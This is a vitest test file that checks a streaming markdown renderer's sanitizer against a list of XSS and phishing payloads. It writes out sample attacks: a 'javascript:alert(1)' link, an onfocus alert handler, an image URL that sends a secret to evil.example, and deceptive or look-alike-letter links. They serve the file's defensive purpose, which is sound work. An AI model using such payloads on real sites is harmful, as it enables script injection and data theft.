// @vitest-environment jsdom
import { describe, expect, test } from "vitest";
import { ATTACKS } from "../../../test/attacks";
import { MarkdownStream, renderMarkdown } from "./index";

const SCRIPT = "javascript:alert(1)";
const LEAK = "https://evil.example/p.png?q=secret";

const PAYLOADS = ATTACKS.map(({ text }) => text);

const ELEMENTS =
  /^(div|span|p|h[1-6]|hr|br|blockquote|ul|ol|li|pre|code|table|thead|tbody|tr|th|td|em|strong|s|a|input|button)$/;
const ATTRIBUTES = /^(class|href|rel|target|title|type|disabled|checked|start|aria-label)$/;
const CLASSES =
  /^(markdown|blocks( done)?|code|lines|newline|language-[\w+#.-]+|table|task|address|image|alt|left|center|right|math( display)?|tex|note|label|says|noteref)$/;

/** Everything in the document that this project did not mean to make. */
function foreign(root: Element): string[] {
  const elements = [root, ...root.querySelectorAll("*")];
  const strangers = elements.filter((element) => !ELEMENTS.test(element.localName));
  return [...strangers, ...elements.filter(isMisused)]
    .map((element) => element.outerHTML)
    .concat(elements.flatMap((element) => [...element.attributes].flatMap(unknown)));
}

function unknown({ name, value }: Attr): string[] {
  const known = name === "class" ? CLASSES.test(value) : ATTRIBUTES.test(name);
  return known ? [] : [`${name}=${value}`];
}

/** A link to anywhere but the two hosts of this file, a field that takes more than a look. */
function isMisused(element: Element): boolean {
  if (element instanceof HTMLInputElement) return element.type !== "checkbox" || !element.disabled;
  if (!(element instanceof HTMLAnchorElement)) return false;
  const honest = /^https:\/\/(ok|(\w+\.)?evil)\.example(\/|$)/.test(element.href);
  return !honest || element.rel !== "noopener noreferrer nofollow";
}

function stream(text: string, size: number): void {
  const root = document.createElement("div");
  document.body.append(root);
  const markdown = new MarkdownStream(root);
  for (let at = 0; at < text.length; at += size) {
    markdown.push(text.slice(at, at + size));
    markdown.flush();
    const found = foreign(root);
    if (found.length > 0) throw new Error(`${text.slice(0, at + size)} left ${found}`);
  }
  markdown.end();
  expect(foreign(root)).toEqual([]);
  root.remove();
}

test("there are 309 attacks, and none twice", () => {
  expect(new Set(PAYLOADS).size).toBe(309);
});

describe.each(ATTACKS)("$name", ({ kind, text: payload }) => {
  const size = kind === "heap" ? 100 : 1; // jsdom looks at every element after every piece

  test("leaves nothing foreign, whole or by character", () => {
    const root = document.createElement("div");
    renderMarkdown(root, payload);
    expect(foreign(root)).toEqual([]);
    stream(payload, size);
  });

  test("leaves nothing foreign inside of other blocks", () => {
    const lines = payload.split("\n");
    stream(
      `text ${payload}\n\n- item\n  ${lines.join("\n  ")}\n\n> ${lines.join("\n> ")}\n`,
      5 * size,
    );
  });
});

/** Markup in which markdown has nothing to decode or to trim. */
const MARKUP = ATTACKS.flatMap(({ kind, text }) =>
  kind === "markup" && !text.includes("&") && !text.endsWith(" ") ? [text] : [],
);

test.each(MARKUP)("raw HTML is shown as it was written: %j", (payload) => {
  const root = document.createElement("div");
  renderMarkdown(root, `x ${payload}`);
  expect(root.textContent).toBe(`x ${payload}`);
});

test("the scan finds what a careless renderer would leave", () => {
  const root = document.createElement("div");
  const [image, link, field] = ["img", "a", "input"].map((tag) => document.createElement(tag));
  image?.setAttribute("src", LEAK);
  link?.setAttribute("href", SCRIPT);
  field?.setAttribute("onfocus", "alert(1)");
  for (const node of [image, link, field]) if (node) root.append(node);
  expect(foreign(root)).toHaveLength(5);
});

test("a refused link keeps its label and shows where it would have gone", () => {
  const root = document.createElement("div");
  renderMarkdown(root, "[read *this*](javascript:alert%281%29)");
  const refused = root.querySelector(".address");
  expect(refused?.textContent).toBe("read this");
  expect(refused?.getAttribute("title")).toBe("javascript:alert%281%29");
  expect(root.querySelector("a")).toBeNull();
});

test("a link shows its full address and opens apart from the notebook", () => {
  const root = document.createElement("div");
  const href = `https://example.com/?${"x".repeat(500)}`;
  renderMarkdown(root, `[text](${href} "a lie")`);
  const link = root.querySelector("a");
  expect(link?.getAttribute("href")).toBe(href);
  expect(link?.title).toBe(href);
  expect([link?.target, link?.rel]).toEqual(["_blank", "noopener noreferrer nofollow"]);
});

test("a picture is a chip with its name and its address as a link", () => {
  const root = document.createElement("div");
  renderMarkdown(root, "![a *big* cat](https://example.com/cat.png)");
  const chip = root.querySelector("span.image");
  expect(chip?.textContent).toBe("🖼 a big cat https://example.com/cat.png");
  expect(chip?.querySelector("a")?.getAttribute("href")).toBe("https://example.com/cat.png");
});

test.each([
  ["[https://bank.example](https://evil.example/login)", "https://bank.example (evil.example)"],
  ["[bank.example](https://evil.example)", "bank.example (evil.example)"],
  ["[**bank.example/x**](https://evil.example)", "bank.example/x (evil.example)"],
  ["[https://bank.example/a](https://bank.example/b)", "https://bank.example/a"],
  ["[Bank](https://evil.example)", "Bank"],
  ["https://ok.example/a(b)c.", "https://ok.example/a(b)c."],
])("%s is read as %j", (text, shown) => {
  const root = document.createElement("div");
  renderMarkdown(root, text);
  expect(root.textContent).toBe(shown);
});

test("a host in look-alike letters is no link, and its title tells it from the honest one", () => {
  const root = document.createElement("div");
  renderMarkdown(root, "[apple](https://\u0430pple.com/a)");
  expect(root.querySelector("a")).toBeNull();
  expect(root.querySelector(".address")?.getAttribute("title")).toBe("https://xn--pple-43d.com/a");
});
